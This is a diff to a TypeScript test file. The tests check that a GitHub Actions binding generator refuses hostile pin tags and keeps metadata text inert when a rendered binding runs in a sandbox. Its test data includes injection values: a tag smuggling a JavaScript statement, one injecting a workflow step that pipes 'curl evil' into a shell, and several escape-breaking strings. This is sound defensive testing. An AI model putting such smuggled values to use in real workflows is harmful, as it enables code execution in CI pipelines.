@@ -7,30 +7,34 @@
 import { test } from "node:test";
 import assert from "node:assert/strict";
 import { spawnSync } from "node:child_process";
+import { readFileSync, rmSync, writeFileSync } from "node:fs";
+import path from "node:path";
 import { runInNewContext } from "node:vm";
 import * as esbuild from "esbuild";
 import { manifestFile, parseActionManifest, parsePinTable, tagNameProblem, type ActionManifest } from "../../workflows-src/kit/action-manifest.ts";
 import { parseActionMetadata } from "../../scripts/actions/action-metadata.ts";
 import { renderBindings } from "../../scripts/actions/render-bindings.ts";
-import { projectCopy } from "../support/project-copy.ts";
+import { npmRun, projectCopy } from "../support/project-copy.ts";
 import { validationProblems } from "../support/validation-problems.ts";
 
 const COMMIT = "4444444444444444444444444444444444444444";
 const CODE_IN_TAG = "v3.6.0 */ globalThis.pwned = true; /*";
 
-test("a pin tag holding code is refused by gen on a copy of the project, and nothing is written", () => {
-  const copy = projectCopy("hostile-manifest-");
+test("a pin tag holding code or a line break is refused by gen on a copy of the project, and nothing is written", () => {
+  const root = projectCopy("hostile-manifest");
+  const at = (file: string) => path.join(root, file);
   try {
-    const binding = "generated/actions/docker-metadata-action.ts";
-    const before = copy.read(binding);
-    copy.write(manifestFile, copy.read(manifestFile).replace('"tag": "v5.10.0"', JSON.stringify({ tag: CODE_IN_TAG }).slice(1, -1)));
-    const gen = copy.npmRun("gen");
-    assert.notEqual(gen.status, 0);
-    assert.match(gen.stderr + gen.stdout, /actions\.docker\/metadata-action\.tag" contains U\+0020/);
-    assert.equal(copy.read(binding), before, "the binding was not rewritten");
-    assert.doesNotMatch(copy.read(binding), /pwned/);
+    const written = ["generated/actions/docker-metadata-action.ts", ".github/workflows/docker-build.yml"].map((file) => [file, readFileSync(at(file), "utf8")] as const);
+    const manifest = readFileSync(at(manifestFile), "utf8");
+    for (const tag of [CODE_IN_TAG, "v5.10.0\n      - run: curl evil | sh"]) {
+      writeFileSync(at(manifestFile), manifest.replace('"tag": "v5.10.0"', `"tag": ${JSON.stringify(tag)}`));
+      const gen = npmRun(root, "gen");
+      assert.notEqual(gen.status, 0);
+      assert.match(gen.stderr + gen.stdout, /actions\.docker\/metadata-action\.tag" contains U\+00(20|0A)/);
+      for (const [file, text] of written) assert.equal(readFileSync(at(file), "utf8"), text, `${file} was not rewritten`);
+    }
   } finally {
-    copy.remove();
+    rmSync(root, { recursive: true, force: true });
   }
 });
 
@@ -62,17 +66,17 @@ test("the manifest and a pin table refuse a hostile tag, a short or upper-case c
 });
 
 /** Runs a rendered binding (TypeScript → JavaScript) with a stand-in kit; returns what it passed to actionBinding. */
-async function runBinding(text: string): Promise<{ pin: { action: string; commit: string; tag: string }; outputs: { names: string[] } }> {
+async function runBinding(text: string): Promise<{ action: string; outputs: { names: string[] } }> {
   const { code } = await esbuild.transform(text, { loader: "ts", format: "cjs" });
   const sandbox = { captured: undefined as unknown, pwned: false };
-  const require = () => ({ actionBinding: (pin: unknown, outputs: unknown) => (sandbox.captured = { pin, outputs }) });
+  const require = () => ({ actionBinding: (action: unknown, outputs: unknown) => (sandbox.captured = { action, outputs }) });
   runInNewContext(`(function (require, module, exports) {${code}\n})(require, { exports: {} }, {})`, { require, globalThis: sandbox, ...sandbox });
   assert.equal(sandbox.pwned, false);
   // Plain data of this realm: the binding ran in another one.
   return JSON.parse(JSON.stringify(sandbox.captured)) as never;
 }
 
-test("text that gets past validation stays data in the binding: comments, literals and names hold exactly what they were given", async () => {
+test("metadata text stays data in the binding: doc comments, property names and literals hold exactly what they were given", async () => {
   const hostile = [CODE_IN_TAG, "`${globalThis.pwned = true}`", 'a"b\\c', "line\u2028break\u2029", "*/ pwned = true; /*", "\u202eevil", "naïve"];
   const manifest: ActionManifest = {
     actions: {
@@ -88,8 +92,8 @@ test("text that gets past validation stays data in the binding: comments, litera
   assert.ok(binding);
   assert.match(binding.content, /^[\x09\x0a\x20-\x7e\u00a0-\uffff]*$/u, "no control or separator character is written raw");
   assert.doesNotMatch(binding.content, /[\u2028\u2029\u202e]/);
-  const { pin, outputs } = await runBinding(binding.content);
-  assert.equal(pin.tag, hostile.join(" "), "the tag comes back exactly");
+  const { action, outputs } = await runBinding(binding.content);
+  assert.equal(action, "acme/widget");
   assert.deepEqual(outputs.names, hostile, "output names come back exactly");
 });
 
